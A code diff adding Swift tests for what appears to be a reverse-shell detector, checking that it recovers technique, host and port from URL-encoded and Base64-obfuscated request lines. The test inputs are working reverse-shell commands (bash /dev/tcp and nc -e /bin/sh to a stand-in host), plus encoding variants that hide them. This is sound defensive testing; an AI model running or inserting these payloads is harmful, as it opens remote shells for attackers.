@@ -48,4 +48,32 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "2001:db8::5", "::1", "[2001:db8::5]", "::ffff:192.0.2.7", "fe80::1%eth0", "[2001:db8::5", "[]", "[",
   ])
   func anAddressAloneIsNoPair(text: String) { #expect(text.withView { Endpoint.pair($0)?.host } == nil) }
+
+  /// A plus sign of Base64 that the request encoded stays one, however the blanks are written.
+  @Test(arguments: ["%2B", "%2b", "%252B"], ["%20", "+", "%2520"])
+  func base64KeepsItsPlusSigns(plus: String, blank: String) {
+    let digits = "YmFzaCAtaSA\(plus)JiAvZGV2L3RjcC8yMDMuMC4xMTMuNzcvNDQ0NCAwPiYx"
+    for text in [
+      "GET /?c=echo\(blank)\(digits)%7Cbase64\(blank)-d%7Cbash",
+      "GET /?c=echo\(blank)%22\(digits)%22%7Cbase64\(blank)-d%7Cbash HTTP/1.1",
+      "GET /?cd\(blank)/tmp;echo\(blank)\(digits)|base64\(blank)-d|bash HTTP/1.1",
+      "GET /?c=%7Becho,\(digits)%7D%7C%7Bbase64,-d%7D%7Cbash HTTP/1.1",
+    ] {
+      let found = shells(text).first
+      #expect(found?.technique == "dev_tcp", "\(text)")
+      #expect(found?.host == "203.0.113.77", "\(text)")
+      #expect(found?.port == 4444, "\(text)")
+    }
+  }
+
+  /// A form within a form writes its blanks as encoded plus signs.
+  @Test(arguments: [
+    "GET /?c=bash+-i+%3E%26+/dev/tcp/203.0.113.77/4444+0%3E%261",
+    "GET /?c=bash%2B-i%2B%3E%26%2B/dev/tcp/203.0.113.77/4444%2B0%3E%261 HTTP/1.1",
+    "GET /x?d=1&c=nc%2B-e%2B/bin/sh%2B203.0.113.77%2B4444",
+  ])
+  func aFormsPlusSignsAreBlanks(text: String) {
+    #expect(shells(text).first?.host == "203.0.113.77")
+    #expect(shells(text).first?.port == 4444)
+  }
 }
